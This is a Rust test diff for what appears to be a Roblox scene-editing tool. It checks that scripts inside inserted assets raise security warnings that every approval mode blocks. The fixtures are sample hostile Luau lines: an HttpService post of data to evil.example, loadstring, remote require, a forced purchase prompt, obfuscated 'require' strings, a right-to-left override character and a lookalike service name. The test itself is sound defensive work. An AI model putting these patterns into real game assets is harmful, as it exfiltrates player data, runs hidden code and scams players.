@@ -3,12 +3,13 @@
 use scene_schemas::api::{Nodes, ScenePart};
 use scene_schemas::command::{AssetContents, AssetScript};
 use scene_schemas::entry::Seq;
-use scene_schemas::proposal::{Change, Class, Proposal, WarningKind};
+use scene_schemas::proposal::{Change, Class, Mode, Proposal, WarningKind};
 use scene_schemas::{Command, InstanceId};
 use serde_json::{Value as Json, json};
 
 use super::super::{Plan, plan};
 use super::{at, base, call};
+use crate::core::policy;
 use crate::core::proposal::{Blobs, perform};
 use crate::core::scene::Scene;
 
@@ -252,4 +253,40 @@ fn schemas_say_what_may_be_left_out() {
     assert_eq!(create["required"], json!(["className"]));
     let said = create["properties"]["parentPath"]["description"].as_str().unwrap();
     assert!(said == "Default: the selection, else game.Workspace.", "{said}");
+}
+
+#[test]
+fn all_that_is_suspicious_in_an_asset_waits_for_two_yeses() {
+    let modes = [Mode::Confirm, Mode::Auto, Mode::Dangerous];
+    for (text, said) in [
+        ("require(123456)", "requires the asset 123456"),
+        ("loadstring(x)()", "uses loadstring"),
+        ("getfenv()", "uses getfenv"),
+        ("http:PostAsync(\"https://evil.example/\", x)", "sends data to evil.example"),
+        ("M:PromptPurchase(p, 4147951000)", "asks players to buy the item 4147951000"),
+        ("x = (\"eriuqer\"):reverse()", "writes \"require\" backwards"),
+        ("x = string.char(114, 101, 113, 117, 105, 114, 101)", "as a list of numbers"),
+        ("x = \"\u{202e}\"", "shows text in another order"),
+    ] {
+        let mut scene = place();
+        let mut holds = asset();
+        holds.scripts[0].text = text.to_owned();
+        scene.know_asset(5, Ok(holds));
+        let (proposal, _) = insert(&mut scene, json!({ "assetId": 5 })).unwrap();
+        let warning = proposal.warnings.iter().find(|it| it.kind == WarningKind::Security);
+        let warning = warning.unwrap_or_else(|| panic!("{text}"));
+        assert!(warning.text.starts_with("game.Workspace.Tree.Grow: Line 1 "), "{warning:?}");
+        assert!(warning.text.contains(said), "{warning:?}");
+        assert!(modes.iter().all(|mode| !policy::lets_through(*mode, &proposal)), "{text}");
+    }
+    let mut scene = place();
+    let mut holds = asset();
+    holds.scripts[0].text = "print(1)".to_owned();
+    holds.names[2] = "Server Script Service".to_owned();
+    scene.know_asset(5, Ok(holds));
+    let (proposal, _) = insert(&mut scene, json!({ "assetId": 5 })).unwrap();
+    let said: Vec<_> = proposal.warnings.iter().map(|it| (it.kind, it.text.as_str())).collect();
+    let imitates =
+        "The name \"Server Script Service\" looks like ServerScriptService, and is another's.";
+    assert!(said.contains(&(WarningKind::Security, imitates)), "{said:?}");
 }
